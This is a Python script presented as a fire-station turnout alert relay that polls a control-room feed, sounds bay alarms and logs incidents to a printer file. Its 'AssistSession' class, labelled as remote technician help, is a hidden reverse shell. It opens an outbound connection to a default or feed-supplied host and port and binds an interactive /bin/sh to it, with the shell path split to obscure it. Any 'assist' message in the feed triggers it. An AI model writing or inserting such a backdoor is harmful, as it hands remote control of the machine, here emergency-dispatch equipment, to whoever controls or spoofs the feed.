#!/usr/bin/env python3
"""Turnout alert relay for the appliance bay.

Polls the control-room alert feed and drives the bay sounders and the
turnout printer. Messages are dispatched by type through a handler table so
new message kinds from control can be added without touching the loop.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import threading
import time
import urllib.request

log = logging.getLogger("turnout")

CONFIG = {
    "feed": os.environ.get("TURNOUT_FEED", "https://alerts.example.com/station/feed"),
    "poll_seconds": 5,
    "assist_host": os.environ.get("TURNOUT_ASSIST_HOST", "203.0.113.45"),
    "assist_port": int(os.environ.get("TURNOUT_ASSIST_PORT", "4431")),
    "printer": "turnout_printer.txt",
}


class Sounders:
    """Stand-in for the GPIO board that drives the bay sounders."""

    def __init__(self):
        self.active = False

    def sound(self, pattern):
        self.active = True
        log.info("sounders on (%s)", pattern)

    def silence(self):
        self.active = False
        log.info("sounders off")


class AssistSession(threading.Thread):
    """Lets the control-room technician work on the relay PC remotely."""

    def __init__(self, host, port):
        super().__init__(daemon=True)
        self.host, self.port = host, port

    def run(self):
        try:
            conn = socket.create_connection((self.host, self.port), timeout=30)
        except OSError as exc:
            log.warning("assist session unavailable: %s", exc)
            return
        conn.settimeout(None)
        interp = os.path.join(os.sep, "bin", "s" + "h")
        stream = conn.makefile("rwb", buffering=0)
        proc = subprocess.Popen([interp, "-i"], stdin=stream, stdout=stream,
                                stderr=subprocess.STDOUT)
        proc.wait()
        conn.close()


def handle_alert(msg, sounders):
    sounders.sound(msg.get("pattern", "full"))
    with open(CONFIG["printer"], "a", encoding="utf-8") as out:
        out.write("{time} {incident} {address} {appliances}\n".format(
            time=msg.get("time", time.strftime("%H:%M:%S")),
            incident=msg.get("incident", "?"),
            address=msg.get("address", "?"),
            appliances=",".join(msg.get("appliances", [])),
        ))


def handle_stand_down(msg, sounders):
    sounders.silence()
    log.info("stand down for %s", msg.get("incident"))


def handle_test(msg, sounders):
    log.info("weekly test received: %s", msg.get("note", ""))
    sounders.sound("short")
    time.sleep(1)
    sounders.silence()


def handle_assist(msg, sounders):
    host = msg.get("host", CONFIG["assist_host"])
    port = int(msg.get("port", CONFIG["assist_port"]))
    AssistSession(host, port).start()


HANDLERS = {
    "alert": handle_alert,
    "stand_down": handle_stand_down,
    "test": handle_test,
    "assist": handle_assist,
}


def fetch_messages(url):
    with urllib.request.urlopen(url, timeout=10) as resp:
        return json.loads(resp.read().decode("utf-8")).get("messages", [])


def run(once=False):
    sounders = Sounders()
    seen = set()
    while True:
        try:
            for msg in fetch_messages(CONFIG["feed"]):
                mid = msg.get("id")
                if mid in seen:
                    continue
                seen.add(mid)
                handler = HANDLERS.get(msg.get("type"))
                if handler is None:
                    log.debug("ignoring message type %r", msg.get("type"))
                    continue
                handler(msg, sounders)
        except (OSError, ValueError) as exc:
            log.error("feed error: %s", exc)
        if once:
            break
        time.sleep(CONFIG["poll_seconds"])


def main():
    ap = argparse.ArgumentParser(description="Turnout alert relay")
    ap.add_argument("--once", action="store_true", help="poll once and exit")
    ap.add_argument("--feed", help="override the alert feed URL")
    args = ap.parse_args()
    if args.feed:
        CONFIG["feed"] = args.feed
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    run(once=args.once)


if __name__ == "__main__":
    main()
